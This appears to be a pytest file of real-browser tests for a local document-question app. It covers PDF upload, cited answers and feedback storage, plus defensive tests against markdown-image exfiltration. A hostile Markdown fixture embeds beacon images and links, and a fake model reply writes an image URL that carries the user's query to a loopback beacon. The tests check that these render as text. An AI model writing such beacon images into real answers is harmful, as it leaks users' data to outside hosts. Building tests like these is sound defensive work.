"""Real browser tests: upload a PDF, ask about it, get a cited answer, rate it; check SQLite.
And hostile text: a document (quoted) or a model (streamed, verified) writing an image or link
to a loopback beacon shows it as text, and the browser requests nothing from the beacon.

Runs the app as users do (``streamlit run app.py`` in a subprocess, loopback only) and drives
Debian's Chromium through Playwright. Without /usr/bin/chromium the test is skipped, except in
CI (``CI=true``), where a missing browser is a failure.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from rag.config import Settings
from rag.ops.database import open_db
from rag.ops.feedback import list_feedback
from tests.conftest import make_pdf

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-quic",
]
PDF_NAME = "expenses-policy.pdf"
PDF_PAGES = [
    "Office hours. The office opens at 9 in the morning and closes at 5 in the afternoon. "
    "The building is closed on public holidays and at weekends.",
    "Expense claims. Approved travel expenses are reimbursed within 10 working days. "
    "Claims must include the original receipts and the name of the approving manager.",
]
QUESTION = "How quickly are approved travel expenses reimbursed?"
SCREENSHOT_COPY = Path("/tmp/groundwork-browser.png")


@pytest.fixture
def chromium() -> Path:
    if not CHROMIUM.exists():
        reason = f"{CHROMIUM} is missing: apt-get install -y chromium"
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(f"{reason} (required in CI)")
        pytest.skip(reason)
    return CHROMIUM


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_healthy(url: str, server: subprocess.Popen, log: Path, timeout: float = 90) -> None:
    direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # never via a proxy
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if server.poll() is not None:
            pytest.fail(f"streamlit exited with {server.returncode}:\n{log.read_text()[-3000:]}")
        try:
            with direct.open(f"{url}/_stcore/health", timeout=2) as response:
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.3)
    pytest.fail(f"streamlit was not healthy within {timeout:.0f} s:\n{log.read_text()[-3000:]}")


@contextlib.contextmanager
def serve_app(tmp_path: Path, **env: str) -> Iterator[tuple[str, Path, Path]]:
    """Run the real app on a free loopback port, all state under tmp_path/data.

    ``env`` adds settings (``GROUNDWORK_*``); yields the URL, the data dir and the server log.
    """
    port = _free_port()
    env = dict(os.environ, GROUNDWORK_DATA_DIR=str(tmp_path / "data"), PYTHONUNBUFFERED="1", **env)
    log = tmp_path / "streamlit.log"
    with log.open("w") as out:
        server = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "streamlit",
                "run",
                str(ROOT / "app.py"),
                "--server.port",
                str(port),
                "--server.address",
                "127.0.0.1",  # loopback only; also skips the external-IP lookup
                "--server.headless",
                "true",
                "--browser.gatherUsageStats",
                "false",
            ],  # fmt: skip
            cwd=ROOT,
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    url = f"http://127.0.0.1:{port}"
    try:
        _wait_healthy(url, server, log)
        yield url, tmp_path / "data", log
    finally:
        server.terminate()
        try:
            server.wait(timeout=15)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait(timeout=5)


@pytest.fixture
def app_server(tmp_path):
    """The real app with the embedded backend (deterministic whatever runs on this machine)."""
    with serve_app(tmp_path, GROUNDWORK_BACKEND="embedded") as served:
        yield served


def _idle(page, timeout_ms: int) -> None:
    """Wait until the script run triggered by the last interaction has finished."""
    page.wait_for_timeout(500)
    page.wait_for_selector(
        '[data-test-script-state="notRunning"]', state="attached", timeout=timeout_ms
    )


def _screenshot(page, path: Path) -> None:
    page.evaluate("document.fonts.ready")  # a promise: evaluate waits for it
    page.screenshot(path=str(path), full_page=True)


def _open_app(page, url: str) -> None:
    page.goto(url, timeout=60_000)
    page.get_by_role("heading", name="Ask your documents").wait_for(timeout=120_000)
    _idle(page, 120_000)


def _upload(page, name: str, mime: str, data: bytes, report: str) -> None:
    """Upload one file on the Documents page and wait for a report matching ``report``."""
    page.get_by_test_id("stSidebarNav").get_by_text("Documents").click()
    page.get_by_role("heading", name="Documents", exact=True).wait_for()
    page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
        {"name": name, "mimeType": mime, "buffer": data}
    )
    page.get_by_text(name).first.wait_for()
    page.get_by_role("button", name="Add to library").click()
    page.get_by_text(re.compile(rf"{re.escape(name)} — {report}")).wait_for(timeout=120_000)


def _ask(page, question: str, citation: str):
    """Ask on the Ask page; open and return the first citation whose label matches."""
    page.get_by_test_id("stSidebarNav").get_by_text("Ask").click()
    page.get_by_role("heading", name="Ask your documents").wait_for()
    page.get_by_test_id("stChatInputTextArea").fill(question)
    page.keyboard.press("Enter")
    found = (
        page.get_by_test_id("stExpander")
        .locator("summary")
        .filter(has_text=re.compile(rf"\[\d+\] {citation}"))
    )
    found.first.wait_for(timeout=300_000)
    _idle(page, 60_000)
    found.first.click()
    return found


def test_upload_ask_cite_and_rate(chromium, app_server, tmp_path):
    from playwright.sync_api import sync_playwright

    url, data_dir, log = app_server
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(chromium), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.set_default_timeout(30_000)
            _open_app(page, url)

            # Documents: upload a PDF and wait for its report
            _upload(page, PDF_NAME, "application/pdf", make_pdf(PDF_PAGES), "added: 2 pages")
            _screenshot(page, tmp_path / "documents.png")

            # Ask: a question only the PDF's second page answers
            citation = _ask(page, QUESTION, rf"{re.escape(PDF_NAME)}, p\. 2")
            page.get_by_text("Approved travel expenses are reimbursed").first.wait_for()
            caption = page.get_by_text(re.compile(r"(verified \d+/\d+ sentences|quoted|not found)"))
            assert caption.count() >= 1

            # Rate it: thumbs up, then the thanks note
            page.get_by_test_id("stFeedback").last.locator(
                '[data-testid^="stFeedbackButton"]'
            ).first.click()
            page.get_by_text("Thanks for the feedback.").wait_for(timeout=60_000)
            _idle(page, 60_000)
            if not citation.first.evaluate("summary => summary.parentElement.open"):
                citation.first.click()  # the rerun after rating may fold it again
            page.get_by_text("The highlighted sentence supports the answer.").first.wait_for(
                state="visible"
            )
            page.wait_for_timeout(600)  # the expander's opening animation
            shot = tmp_path / "answer.png"
            _screenshot(page, shot)
            shutil.copyfile(shot, SCREENSHOT_COPY)
        finally:
            browser.close()

    db = open_db(Settings(data_dir=data_dir).db_path)
    try:
        [row] = list_feedback(db)
    finally:
        db.close()
    assert (row["score"], row["question"]) == (1, QUESTION)
    assert PDF_NAME in {p["source"] for p in row["passages"]}
    assert "Traceback" not in log.read_text()


class _Beacon(http.server.BaseHTTPRequestHandler):
    """Records every request path; answers with an empty 204."""

    paths: list[str]

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self.paths.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args) -> None:  # keep the test output clean
        pass


@pytest.fixture
def beacon():
    """A loopback HTTP server logging every request: the host a hostile image points at."""
    handler = type("Beacon", (_Beacon,), {"paths": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}", handler.paths
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def ollama_app_server(tmp_path, fake_ollama):
    """The real app answering through a loopback Ollama whose replies the test writes."""
    with serve_app(
        tmp_path, GROUNDWORK_BACKEND="ollama", GROUNDWORK_OLLAMA_HOST=fake_ollama.url
    ) as served:
        yield served


HOSTILE_NAME = "printer-status.md"
HOSTILE_QUESTION = "Is the printer on floor three working?"


def hostile_document(host: str) -> str:
    """Markdown whose sentences carry an image and a link to ``host``."""
    return (
        f"# Printer status ![icon](http://{host}/beacon.png?from=heading)\n\n"
        f"The printer on floor three is working again ![status](http://{host}/beacon.png"
        f"?from=document) and the queue is explained [click](http://{host}/link) in the guide."
        "\n\nToner is ordered by the facilities team every Monday.\n"
    )


def _ask_about_hostile_document(
    page, url: str, host: str, tmp_path: Path
) -> tuple[list[str], list[str]]:
    """Upload the hostile document, ask about it and open its citation.

    Returns the text of the Markdown elements shown (word joiners removed) and the HTML of any
    image or link pointing at ``host``.
    """
    _open_app(page, url)
    _upload(page, HOSTILE_NAME, "text/markdown", hostile_document(host).encode(), "added")
    _ask(page, HOSTILE_QUESTION, re.escape(HOSTILE_NAME))
    page.wait_for_timeout(1_500)  # time for any image to be requested
    _screenshot(page, tmp_path / "hostile.png")
    live = page.locator(f'img[src*="{host}"], a[href*="{host}"]')
    texts = page.get_by_test_id("stMarkdownContainer").evaluate_all(
        "els => els.map(e => e.innerText.replaceAll('\\u2060', ''))"
    )
    return texts, live.evaluate_all("els => els.map(e => e.outerHTML)")


def _browse_hostile(chromium, url: str, host: str, tmp_path):
    """Ask about the hostile document in a fresh Chromium, recording every request it makes.

    Returns the requested URLs, the rendered Markdown texts and any live ``<img>``/``<a>`` to
    ``host``.
    """
    from playwright.sync_api import sync_playwright

    requested: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(chromium), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.set_default_timeout(30_000)
            page.on("request", lambda request: requested.append(request.url))
            texts, live = _ask_about_hostile_document(page, url, host, tmp_path)
        finally:
            browser.close()
    return requested, texts, live


def test_a_hostile_documents_image_and_link_stay_text(chromium, app_server, beacon, tmp_path):
    """A quoted sentence carrying an image and a link shows them as text; nothing is fetched."""
    url, _, log = app_server
    host, hits = beacon
    requested, texts, live = _browse_hostile(chromium, url, host, tmp_path)

    assert not [r for r in requested if host in r], requested
    assert hits == []
    assert live == []  # no image, and no link either: URLs show as text
    # The quoted answer and the highlighted passage both show the image syntax as text.
    image = f"![status](http://{host}/beacon.png?from=document)"
    assert sum(image in t for t in texts) >= 2, texts
    assert any(f"[click](http://{host}/link)" in t for t in texts), texts
    assert "Traceback" not in log.read_text()


def test_a_model_told_to_leak_writes_text_not_an_image(
    chromium, fake_ollama, ollama_app_server, beacon, tmp_path
):
    """A model writing an exfiltration image (streamed, then verified) shows it as text."""
    url, _, log = ollama_app_server
    host, hits = beacon
    leak = f"![x](http://{host}/beacon.png?q=floor+three+printer)"
    fake_ollama.reply = lambda messages: (
        f"The printer on floor three is working again {leak} and the queue is explained [1]."
    )
    fake_ollama.token_delay = 0.02  # a visible stream: the draft is shown piece by piece
    requested, texts, live = _browse_hostile(chromium, url, host, tmp_path)

    assert fake_ollama.requests_to("/api/chat"), "the answer was written by the model"
    assert not [r for r in requested if host in r], requested
    assert hits == []
    assert live == []
    assert any(f"http://{host}/beacon.png" in t for t in texts), texts
    assert "Traceback" not in log.read_text()
